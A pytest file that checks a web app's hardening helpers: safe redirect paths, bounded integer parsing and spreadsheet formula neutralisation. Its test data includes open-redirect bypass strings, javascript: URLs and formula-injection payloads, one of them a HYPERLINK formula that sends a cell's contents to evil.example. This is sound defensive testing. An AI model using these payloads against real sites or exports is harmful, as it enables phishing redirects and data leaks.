"""Pure helpers of the web's hardening: the local-path redirect check, bounded integers and the
spreadsheet neutralisation (docs/privacy.md, threat model)."""

from __future__ import annotations

import pytest

from central.web.errors import BadRequest
from central.web.exports import neutralise
from central.web.security import bounded_int, safe_next_path

# The usual open-redirect bypasses (as they arrive after the query string is decoded once).
BYPASSES = [
    "//evil.example", "//evil.example/", "///evil.example", "/\\evil.example", "\\\\evil.example",
    "/\t/evil.example", "/%09/evil.example", "/\n/evil.example", "/%0a/evil.example",
    "/\r/evil.example", "/%0d/evil.example", "/ /evil.example", "/%20/evil.example",
    "%2f%2fevil.example", "/%2f/evil.example", "/%2F%2Fevil.example", "%2F%2Fevil.example",
    "/%5cevil.example", "/%5c%5cevil.example", "/%252f%252fevil.example", "\t//evil.example",
    " //evil.example", "http://evil.example", "https://evil.example/x", "HTTP://evil.example",
    "//evil.example@ok", "javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,x",
    "vbscript:x", "evil.example", "ftp://evil.example", "/\x00/evil.example",
    "/\x7f/evil.example", "https:/evil.example", "http:evil.example", "", None,
    "/" + "a" * 3000,
]
GOOD = ["/", "/stays/", "/stays/?status=due&site=ks-1", "/reports/?unit=4", "/sites/hue-dai-noi",
        "/admin/users", "/sites/b%C3%A1ch-m%C3%A3"]


@pytest.mark.parametrize("target", BYPASSES)
def test_open_redirect_bypasses_fall_back(target: str | None) -> None:
    assert safe_next_path(target, "/fallback") == "/fallback"


@pytest.mark.parametrize("target", GOOD)
def test_local_paths_are_kept(target: str) -> None:
    assert safe_next_path(target, "/fallback") == target


@pytest.mark.parametrize("raw", ["99999999999999999999999", "2147483648", "-1", "1e3", "0x10",
                                 "١٢", "²", "1_000", "1.0", "--1", "-", "abc"])
def test_out_of_range_or_odd_integers_are_bad_requests(raw: str) -> None:
    with pytest.raises(BadRequest, match="unit"):
        bounded_int(raw, "unit")


def test_bounded_integers() -> None:
    assert bounded_int("2147483647", "x") == 2**31 - 1
    assert bounded_int(" 42 ", "x") == 42
    assert bounded_int("", "x", default=7) == 7
    assert bounded_int(None, "x") is None
    assert bounded_int("-3", "x", low=-5) == -3


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
                                   "\t1", "\rx", " =1+1", "  +1", "\n-1", "\u00a0@x",
                                   '=HYPERLINK("http://evil.example/?"&A1,"Mai")'])
def test_formula_starts_are_neutralised(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["", "Nguyễn Thị Mai", "079303001234", "15/05/2003", "12.5%",
                                   "1 - Du lịch", "a=b", "Phòng 2-3", "x@y"])
def test_plain_values_are_unchanged(value: str) -> None:
    assert neutralise(value) == value
